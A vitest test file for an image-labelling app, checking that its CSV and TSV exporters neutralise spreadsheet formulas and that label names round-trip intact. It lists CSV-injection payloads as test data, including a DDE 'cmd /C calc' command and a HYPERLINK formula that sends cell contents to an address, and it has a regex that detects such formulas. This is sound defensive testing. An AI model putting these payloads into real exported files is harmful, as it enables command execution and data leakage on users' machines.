import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { formats } from '../../src/main/exchange/formats/list.ts'
import { ImportPlan } from '../../src/main/exchange/plan/plan.ts'
import { writeSuggestionsCsv } from '../../src/main/exchange/write/suggestionsCsv.ts'
import { temporaryFolder } from './folder.ts'
import { MemoryProject } from './memoryProject.ts'

/** What a spreadsheet runs, or sends somewhere, when it opens a file. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '＠x',
  "'=1",
  '=1,=2;=3',
  '"=1"',
]
/** The beginning of a cell that is run. A number is a number. */
const isRun = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)

function hostile(): MemoryProject {
  const project = new MemoryProject()
  for (const name of formulas) project.image(`${name.replaceAll('/', '_')}.jpg`)
  const labels = formulas.map((name) => project.label(name))
  for (const [i, { id }] of project.images.entries()) {
    project.mark(id, labels[i], 1)
    project.mark(id, labels[(i + 1) % labels.length], -1)
  }
  return project
}

const filesBelow = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => path.join(folder, name))
    .filter((file) => statSync(file).isFile())

function expectHarmless(file: string): void {
  const delimiter = file.endsWith('.tsv') ? '\t' : ','
  const rows: string[][] = parse(readFileSync(file, 'utf8'), { delimiter, relax_column_count: true, bom: true })
  expect(rows.length, file).toBeGreaterThan(1)
  for (const cell of rows.flat()) expect(isRun(cell), `${path.basename(file)}: ${cell}`).toBe(false)
}

const writers = formats.filter(({ write, needsFeatures }) => write && !needsFeatures)

test.each(writers.map((format) => [format.id, format] as const))(
  '%s: no cell of a table that it writes is a formula, and every name comes back',
  async (id, format) => {
    const endings = format.extensions.filter((ending) => /^\.[ct]sv$/.test(ending))
    for (const ending of endings.length > 0 ? endings : [format.extensions[0] ?? '']) {
      const folder = temporaryFolder()
      const target = path.join(folder, `x${ending}`)
      const original = hostile()
      const placeImage = async ({ path: name }: { path: string }, destination: string) => {
        mkdirSync(path.dirname(destination), { recursive: true })
        writeFileSync(destination, name)
      }
      const options = { appVersion: '0', suggestions: true, ...(format.images === 'needed' && { placeImage }) }
      await format.write!(original.source(), target, options)
      const tables = filesBelow(folder).filter((file) => /\.[ct]sv$/.test(file))
      if (endings.length > 0) expect(tables).toContain(target)
      for (const file of tables) expectHarmless(file)
      if (endings.length === 0 || !format.read) continue
      const fresh = hostile()
      fresh.states.clear()
      await (await ImportPlan.make(id, await format.read(target, {}), fresh.target())).apply(fresh)
      const present = (project: MemoryProject) =>
        Object.values(project.told()).map((told) => Object.keys(told).filter((name) => told[name] === 'present'))
      expect(present(fresh)).toEqual(present(original))
    }
  },
)

test('suggestions: no cell is a formula', async () => {
  const file = path.join(temporaryFolder(), 'x.csv')
  const rows = formulas.map((name) => ({
    image: `${name}.jpg`,
    label: name,
    probability: 0.5,
    suggestion: 'present' as const,
  }))
  await writeSuggestionsCsv(file, rows, {})
  expectHarmless(file)
})
